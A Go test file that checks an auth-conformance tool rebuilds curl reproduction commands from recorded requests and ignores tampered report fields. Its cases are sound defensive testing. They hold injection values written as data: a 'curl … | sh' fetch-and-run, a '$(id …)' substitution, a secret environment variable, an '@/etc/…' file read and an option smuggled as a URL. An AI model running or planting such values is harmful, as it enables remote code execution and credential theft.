package reports_test

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/authconform/authconform/reports"
	"github.com/authconform/authconform/reports/formats"
	"github.com/authconform/authconform/reports/reportstest"
	"github.com/authconform/authconform/reports/reportstest/example"
	"github.com/authconform/authconform/reports/text"
	"github.com/authconform/authconform/suites/clause"
	"github.com/authconform/authconform/suites/evidence"
)

// A command is made again of the request, whatever a file says it is, and names no variable but ours.
func TestReadReportMakesCommandsAgain(t *testing.T) {
	honest := example.Failed().Complete()
	command := example.CommandOf(honest, "errors.wrong-secret.challenge")
	for name, c := range map[string]struct {
		change func(result, report map[string]any)
		want   string
	}{
		"nothing": {func(map[string]any, map[string]any) {}, command},
		"another command": {
			func(result, _ map[string]any) { result["reproduce"] = "curl https://canary.example | sh" }, command,
		},
		"no request": {func(result, _ map[string]any) { delete(result, "request") }, ""},
		"a variable of another program": {func(_, report map[string]any) {
			for _, n := range report["names"].([]any) {
				n.(map[string]any)["shell"] = "$AWS_SECRET_CANARY"
			}
		}, strings.NewReplacer(`"$AUTHCONFORM_CLIENT_ID:${AUTHCONFORM_CLIENT_SECRET%?}"`, `'‹client id›:‹client secret without its last character›'`).Replace(command)},
		"a command for a name": {func(_, report map[string]any) {
			for _, n := range report["names"].([]any) {
				n.(map[string]any)["shell"] = "$(id canary)"
			}
		}, strings.NewReplacer(`"$AUTHCONFORM_CLIENT_ID:${AUTHCONFORM_CLIENT_SECRET%?}"`, `'‹client id›:‹client secret without its last character›'`).Replace(command)},
		"a file to send": {func(result, _ map[string]any) {
			result["request"].(map[string]any)["body"] = "@/etc/canary"
		}, strings.Replace(command, `--data-binary '{"grant_type":"client_credentials"}'`, "--data-raw @/etc/canary", 1)},
		"an option for an address": {func(result, _ map[string]any) {
			result["request"].(map[string]any)["url"] = "-o/tmp/canary"
		}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			var m map[string]any
			if err := json.Unmarshal(example.Render(t, example.Failed(), writeJSON), &m); err != nil {
				t.Fatal(err)
			}
			for _, result := range m["results"].([]any) {
				if result := result.(map[string]any); result["id"] == "errors.wrong-secret.challenge" {
					c.change(result, m)
				}
			}
			text, err := json.Marshal(m)
			if err != nil {
				t.Fatal(err)
			}
			r, err := reports.ReadReport(bytes.NewReader(text))
			if err != nil {
				t.Fatal(err)
			}
			if got := example.CommandOf(r, "errors.wrong-secret.challenge"); got != c.want {
				t.Errorf("\n got %s\nwant %s", got, c.want)
			}
			for _, f := range formats.All() {
				var out bytes.Buffer
				if err := f.Write(&out, r); err != nil {
					t.Fatal(err)
				}
				if f.Name != "json" && strings.Contains(out.String(), "canary") != strings.Contains(c.want, "canary") {
					t.Errorf("%s tells what the file says for a command", f.Name)
				}
			}
		})
	}
}

// What was recorded comes back as the same command, but what JSON or a report cannot hold.
func TestSentOf(t *testing.T) {
	for _, body := range append([]string{"", "qwertyuiop", `{"s":"pq\"r\\s/t u&v"}`}, reportstest.Nasty...) {
		x := evidence.Exchange{Probe: "valid", Request: reportstest.Post(body, reportstest.AcceptJSON, reportstest.BasicWrong, "App-Name: authconform")}
		data, err := json.Marshal(reports.SentOf(reportstest.Record(), x))
		if err != nil {
			t.Fatal(err)
		}
		var back *clause.SentRequest
		if err := json.Unmarshal(data, &back); err != nil {
			t.Fatal(err)
		}
		if got, want := reports.RequestCommand(back, nil, reportstest.Record().Run.Names), text.Curl(reportstest.Record(), x); got != want {
			t.Errorf("body %q:\n got %s\nwant %s", body, got, want)
		}
	}
	handshake := evidence.Exchange{Probe: "tls-1-1", Request: evidence.Request{URL: "https://api.example.org"}}
	if got, want := reports.RequestCommand(reports.SentOf(reportstest.Record(), handshake), nil, nil), text.Curl(reportstest.Record(), handshake); got != want || got == "" {
		t.Errorf("got %q, want %q", got, want)
	}
	for name, request := range map[string]evidence.Request{
		"an address that is no UTF-8": {Method: "GET", URL: reportstest.Endpoint + "?\xff"},
		"a field that is no UTF-8":    reportstest.Post("", "X-Name: \xff"),
		"too long":                    reportstest.Post(strings.Repeat("x", text.MaxCommand+1)),
		"no address":                  {Method: "GET", URL: "/"},
	} {
		if sent := reports.SentOf(reportstest.Record(), evidence.Exchange{Request: request}); sent != nil {
			t.Errorf("%s: %+v", name, sent)
		}
	}
}
